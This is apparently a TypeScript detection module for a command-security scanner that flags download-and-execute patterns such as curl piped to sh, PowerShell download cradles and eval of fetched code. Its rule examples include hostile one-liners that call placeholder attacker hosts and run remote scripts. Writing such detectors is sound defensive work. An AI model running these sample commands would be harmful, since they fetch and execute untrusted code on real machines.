import {
  baseName,
  findUrl,
  hasLong,
  hasShort,
  isInterpreter,
  isShell,
  isUrl,
  operands,
  optionValue,
  type Cmd,
  type CommandRule,
  type Env,
  type Stage,
} from '../model.js';
import { DOWNLOAD_CONTEXT_PATTERNS, downloadContext } from './download-context.js';

export const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c', 'lwp-download', 'lwp-request', 'get', 'lynx', 'elinks', 'axel', 'http', 'https', 'tftp', 'invoke-webrequest', 'invoke-restmethod', 'iwr', 'irm']);

/** Archives, documents and data: saved downloads that are not run as programs. */
const DATA_FILE = /\.(?:tar|gz|tgz|bz2|xz|zst|zip|7z|rar|json|ya?ml|xml|csv|tsv|txt|md|html?|pdf|png|jpe?g|gif|svg|webp|mp[34]|wav|iso|img|sig|asc|sha256|pem|crt|key|pub|gpg|deb|rpm|whl|jar|parquet)$/i;

export const DOWNLOAD_EXEC_RULES: CommandRule[] = [
  {
    id: 'commands.download-exec.pipe-to-shell',
    family: 'download-exec',
    severity: 'critical',
    score: 0.9,
    attack: 'T1105',
    description: 'Downloaded content piped straight into an interpreter (T1105 + T1059)',
    examples: {
      tp: ['curl -fsSL http://203.0.113.7/i.sh | sh', 'wget -qO- https://evil.example.net/x | sudo bash -s -- --quiet', 'c\'u\'rl -s https://bad.example.org/p.py \\\n  | python3 -'],
      fp: ['curl -o file.tar.gz https://example.com/file.tar.gz', 'curl -s https://api.example.com/v1/items | jq .', 'Use curl to download files and bash to run scripts.'],
    },
  },
  {
    id: 'commands.download-exec.substitution',
    family: 'download-exec',
    severity: 'critical',
    score: 0.9,
    attack: 'T1105',
    description: 'Downloaded content executed through command or process substitution (T1105 + T1059)',
    examples: {
      tp: ['bash -c "$(curl -fsSL http://198.51.100.4/setup)"', 'bash <(wget -qO- https://evil.example.net/a.sh)', 'eval "`curl -s https://x.example.org/c`"'],
      fp: ['echo "$(curl -s https://api.example.com/ip)"', 'VERSION=$(curl -s https://example.com/VERSION)', 'diff <(curl -s https://a.example.com/x) local.txt'],
    },
  },
  {
    id: 'commands.download-exec.saved-then-run',
    family: 'download-exec',
    severity: 'high',
    score: 0.8,
    attack: 'T1105',
    description: 'A downloaded file is executed afterwards (T1105 + T1059)',
    examples: {
      tp: ['curl -o /tmp/x.sh http://203.0.113.9/x.sh && bash /tmp/x.sh', 'wget http://evil.example.net/payload.elf; chmod +x payload.elf; ./payload.elf', 'curl -sLo /tmp/.u https://x.example.org/u\nchmod +x /tmp/.u\n/tmp/.u'],
      fp: ['curl -LO https://go.dev/dl/go1.22.linux-amd64.tar.gz && sudo tar -C /usr/local -xzf go1.22.linux-amd64.tar.gz', 'wget https://example.com/install.sh && less install.sh', 'curl -o data.json https://api.example.com/data && jq . data.json'],
    },
  },
  {
    id: 'commands.download-exec.code-eval',
    family: 'download-exec',
    severity: 'critical',
    score: 0.88,
    attack: 'T1105',
    description: 'Script code reads code from a URL and runs it with exec/eval (T1105 + T1059)',
    examples: {
      tp: [
        'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://203.0.113.8/s.py\').read())"',
        "```python\nimport requests\nsrc = requests.get('http://stage.example-cdn.net/p.py').text\nexec(src)\n```",
        'php -r \'eval(file_get_contents("http://198.51.100.3/x.txt"));\'',
      ],
      fp: [
        "```python\nimport requests\ndata = requests.get('https://api.example.com/v1/items').json()\nprint(eval('1 + 2'))\n```",
        'python3 -c "import urllib.request as u; print(u.urlopen(\'https://example.com\').status)"',
        'The exec() builtin runs code; urlopen() only fetches it.',
      ],
    },
  },
  {
    id: 'commands.download-exec.powershell-cradle',
    family: 'download-exec',
    severity: 'critical',
    score: 0.92,
    attack: 'T1059.001',
    description: 'PowerShell download cradle: remote script text executed in memory (T1105 + T1059.001)',
    examples: {
      tp: ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')", 'iwr https://evil.example.net/s.ps1 -UseBasicParsing | iex', "powershell -nop -c \"$s=(New-Object Net.WebClient).DownloadString('https://x.example.org/p');I`E`X $s\""],
      fp: ['Invoke-WebRequest -Uri https://example.com/file.zip -OutFile file.zip', 'Invoke-RestMethod https://api.example.com/items | ConvertTo-Json', 'Get-Help Invoke-Expression -Full'],
    },
  },
];

/** Reads a script from standard input (no script operand, no -c). Prose is lenient. */
export function readsStdin(c: Cmd, env: Env): boolean {
  if (c.name === 'source' || c.name === '.') return c.args[0] === '/dev/stdin' || c.args[0] === '-';
  if (c.name === 'powershell' || c.name === 'pwsh') return c.args.length === 0 || c.args.includes('-') || c.args.every((a) => a.startsWith('-'));
  if (c.name === 'cmd') return !c.lower.some((a) => a === '/c' || a === '/k');
  if (!isInterpreter(c.name)) return false;
  if (c.args.some((a) => a === '-c' || a === '-e' || a === '-m' || a === '-r' || a === '--eval' || a === '-E')) return false;
  if (isShell(c.name) && hasShort(c, 's')) return true;
  const ops = operands(c, isShell(c.name) ? 'oO' : 'WX');
  if (ops.length === 0) return true;
  const first = ops[0]!;
  if (first === '-' || first === '/dev/stdin') return true;
  return env.prose && !first.includes('/') && !first.includes('.');
}

function pipeToShell(stages: Stage[], env: Env): void {
  for (let j = 1; j < stages.length; j++) {
    const exec = stages[j]!.cmds.find((c) => readsStdin(c, env));
    if (!exec) continue;
    for (let i = 0; i < j; i++) {
      const d = stages[i]!.cmds.find((c) => DOWNLOADERS.has(c.name) && !(c.name === 'http' && !c.args.some(isUrl)));
      if (!d) continue;
      const via = j - i > 1 ? ` (through ${stages.slice(i + 1, j).flatMap((s) => s.cmds.map((c) => c.name)).join(', ')})` : '';
      env.report('commands.download-exec.pipe-to-shell', { start: stages[i]!.start, end: stages[j]!.end }, `${d.name} output piped into ${exec.name}${via}`, downloadContext(d, exec, findUrl(d.args)));
      return;
    }
  }
}

const EXEC_BY_SUBSTITUTION = new Set(['eval', 'source', '.', 'exec']);

function substitution(c: Cmd, env: Env): void {
  // $(curl ...) as the command itself runs the downloaded text as a command line.
  const candidates = [];
  if (c.nameWord?.subs) candidates.push(c.nameWord);
  if (isInterpreter(c.name) || EXEC_BY_SUBSTITUTION.has(c.name)) {
    candidates.push(...c.words);
    for (const r of c.redirs) if (r.target && (r.op === '<' || r.op === '<<<')) candidates.push(r.target);
  }
  for (const w of candidates) {
    if (!w.subs) continue;
    const d = env.subCmds(w).find((x) => DOWNLOADERS.has(x.name));
    if (!d) continue;
    const kind = w.subs[0]!.kind;
    const how = w === c.nameWord ? 'the output of a download is run as a command' : `${c.name || 'the shell'} runs a download through ${kind === '`' ? '`...`' : `${kind}...)`}`;
    env.report('commands.download-exec.substitution', c, how, downloadContext(d, c, findUrl(d.args)));
    return;
  }
}

/** Output file of a downloader, when it saves one. */
export function savedPath(c: Cmd): string | undefined {
  const url = findUrl(c.args);
  if (c.name === 'curl') {
    const o = optionValue(c, 'o', ['--output']);
    if (o !== undefined) return o === '-' ? undefined : o;
    if (hasShort(c, 'O') || hasLong(c, '--remote-name')) return urlFile(url);
  } else if (c.name === 'wget') {
    const o = optionValue(c, 'O', ['--output-document']);
    if (o !== undefined) return o === '-' ? undefined : o;
    const dir = optionValue(c, 'P', ['--directory-prefix']);
    const base = urlFile(url);
    return base && dir ? `${dir.replace(/\/$/, '')}/${base}` : base;
  } else if (c.name === 'fetch' || c.name === 'aria2c') {
    return optionValue(c, 'o', ['--out', '--output']) ?? (c.name === 'aria2c' ? urlFile(url) : undefined);
  } else if (c.name === 'invoke-webrequest' || c.name === 'iwr' || c.name === 'invoke-restmethod' || c.name === 'irm' || c.name === 'start-bitstransfer') {
    const i = c.lower.findIndex((a) => a === '-outfile' || a === '-destination');
    if (i >= 0) return c.win[i + 1];
  } else if (c.name === 'certutil' && c.lower.some((a) => a === '-urlcache' || a === '/urlcache')) {
    const ops = c.win.filter((a) => !a.startsWith('-') && !a.startsWith('/'));
    const u = ops.findIndex(isUrl);
    return u >= 0 ? ops[u + 1] ?? urlFile(url) : undefined;
  } else if (c.name === 'bitsadmin' && c.lower.includes('/transfer')) {
    const u = c.win.findIndex(isUrl);
    return u >= 0 ? c.win[u + 1] : undefined;
  }
  return undefined;
}

/** File name at the end of a URL's path (curl -O, wget without -O). */
function urlFile(url: string | undefined): string | undefined {
  if (!url) return undefined;
  let end = url.length;
  for (let i = 0; i < url.length; i++) {
    if (url[i] === '?' || url[i] === '#') {
      end = i;
      break;
    }
  }
  return baseName(url.slice(0, end));
}

const RUNNERS = new Set(['source', '.', 'start', 'start-process', 'saps', 'invoke-item', 'ii', 'wscript', 'cscript', 'mshta', 'regsvr32', 'rundll32', 'msiexec', 'installutil', 'nohup']);

/** The file a command executes, if it executes one. */
function executedPath(c: Cmd): string | undefined {
  const raw = c.invoked ?? '';
  if (raw.includes('/') || raw.includes('\\')) return raw;
  if (isInterpreter(c.name) && !c.args.some((a) => a === '-c' || a === '-e' || a === '-m')) return operands(c, isShell(c.name) ? 'oO' : '')[0];
  if (RUNNERS.has(c.name)) {
    const fp = c.lower.findIndex((a) => a === '-filepath');
    if (fp >= 0) return c.win[fp + 1];
    const ops = c.win.filter((a) => !a.startsWith('-') && !(a.startsWith('/') && a.length <= 3));
    const first = ops[0];
    return first?.split(',')[0];
  }
  if ((c.name === 'powershell' || c.name === 'pwsh') && c.lower.some((a) => a === '-file' || a === '-f')) {
    const i = c.lower.findIndex((a) => a === '-file' || a === '-f');
    return c.win[i + 1];
  }
  return undefined;
}

function savedThenRun(c: Cmd, env: Env): void {
  const path = DOWNLOADERS.has(c.name) || c.name === 'certutil' || c.name === 'bitsadmin' || c.name === 'start-bitstransfer' ? savedPath(c) : undefined;
  if (path) {
    if (!DATA_FILE.test(path)) env.saveDownload(env.expand(path), c, `${c.name} saved a download`);
    return;
  }
  if (DOWNLOADERS.has(c.name)) {
    for (const r of c.redirs) {
      if (r.target && (r.op === '>' || r.op === '>>') && r.fd <= 1 && !DATA_FILE.test(r.target.value)) env.saveDownload(env.expand(r.target.value), c, `${c.name} output redirected to a file`);
    }
    return;
  }
  const how = inspection(c);
  if (how) {
    for (const file of operands(c)) env.inspectDownload(env.expand(file), c.start, how);
    return;
  }
  if (c.name === 'chmod' || c.name === 'tar' || c.name === 'unzip' || c.name === 'cat' || c.name === 'less' || c.name === 'sha256sum') return;
  const target = executedPath(c);
  if (!target) return;
  const saved = env.downloaded(env.expand(target), c.start);
  if (!saved) return;
  const exec = env.toText(c);
  const span = saved.sameChunk ? { start: Math.min(saved.span.start, exec.start), end: Math.max(saved.span.end, exec.end) } : exec;
  const options = { ...downloadContext(undefined, c, undefined), absolute: true };
  if (saved.inspected) {
    // Download, read, then run: the practice install guides recommend over `curl | sh`.
    options.severity = 'low';
    options.steps = [...(options.steps ?? []), { step: 'context', delta: -0.45, reason: `the file is inspected (${saved.inspected}) before it runs (-0.45)` }];
  }
  env.report('commands.download-exec.saved-then-run', span, `${saved.detail}, then ${c.name || 'the shell'} executes it`, options);
}

/** Pagers, editors and viewers show a file to a person; gpg --verify and sha256sum -c check it. */
const VIEWERS = new Set(['less', 'more', 'most', 'view', 'vi', 'vim', 'nvim', 'nano', 'emacs', 'bat', 'batcat', 'code', 'gedit', 'notepad', 'type']);

/** How a command inspects the files it names (its name), or undefined when it does not. */
function inspection(c: Cmd): string | undefined {
  if (VIEWERS.has(c.name)) return c.name;
  if ((c.name === 'gpg' || c.name === 'gpg2') && c.lower.includes('--verify')) return 'gpg --verify';
  if ((c.name === 'sha256sum' || c.name === 'sha512sum' || c.name === 'shasum') && (hasShort(c, 'c') || hasLong(c, '--check'))) return `${c.name} --check`;
  return undefined;
}

export function downloadExecCommand(c: Cmd, env: Env): void {
  substitution(c, env);
  savedThenRun(c, env);
}

export function downloadExecPipeline(stages: Stage[], env: Env): void {
  if (stages.length > 1) pipeToShell(stages, env);
}

/** Every regex this module ships (checked for ReDoS by the tests). */
export const DOWNLOAD_EXEC_PATTERNS: readonly RegExp[] = [DATA_FILE, /\/$/, ...DOWNLOAD_CONTEXT_PATTERNS];
